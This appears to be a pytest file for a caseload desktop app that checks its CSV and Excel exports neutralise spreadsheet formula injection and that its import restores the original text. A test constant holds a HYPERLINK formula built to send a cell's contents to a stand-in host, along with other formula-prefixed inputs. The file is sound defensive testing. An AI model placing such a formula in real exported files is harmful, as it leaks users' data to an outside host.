"""Files a spreadsheet opens never carry a live formula, and our own import reads them back unchanged."""

from __future__ import annotations

import csv
from datetime import date

from openpyxl import load_workbook

from fsw_desktop.services.caseload import caseload_export, caseload_import
from fsw_desktop.services.desk import lists
from fsw_desktop.services.supervision import summary, team
from fsw_desktop.services.casework.referrals import ReferralInput, create_referral
from fsw_desktop.services.desk.session import open_session
from fsw_desktop.services.caseload.spreadsheet import read_cell, safe_cell

TODAY = date(2026, 3, 1)
EVIL = '=HYPERLINK("http://x.invalid/?"&A2,"x")'


def test_safe_cell_round_trip():
    for text in ("=1+2", "+44 7700", "-3", "@SUM(A1)", "\tx", "plain", "'quoted", "", "2 | 3"):
        assert read_cell(safe_cell(text)) == text
        assert not str(safe_cell(text)).startswith(("=", "+", "-", "@", "\t"))
    assert safe_cell(3) == 3


def test_exports_hold_no_formula_and_import_gets_the_text_back(db, tmp_path):
    with open_session(db) as s:
        lists.set_referral_sources(s, ["Self", EVIL])
        create_referral(s, ReferralInput(referral_date=date(2026, 1, 10), source=EVIL, prisoner_given="Abelard",
                                         prisoner_family="Brackenbury", prison_number="A1234BC",
                                         family_label="=1+2"), today=TODAY)
        s.commit()
        figures = summary.desk_summary(s, TODAY)["figures"]
        rows = team.team_csv_rows({"period": figures["period"], "team": figures, "workers": {}})
        assert not [r for r in rows for v in r.values() if str(v).startswith("=")]
        caseload_export.export_caseload(s, tmp_path / "out.csv")
        caseload_export.export_caseload(s, tmp_path / "out.xlsx")
        s.commit()
    with open(tmp_path / "out.csv", encoding="utf-8-sig") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith("=")] and "'=1+2" in cells
    sheet = load_workbook(tmp_path / "out.xlsx")["Caseload"]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    read = caseload_import.read_table(tmp_path / "out.csv")
    assert "=1+2" in [c for row in read.rows for c in row] and EVIL in [c for row in read.rows for c in row]
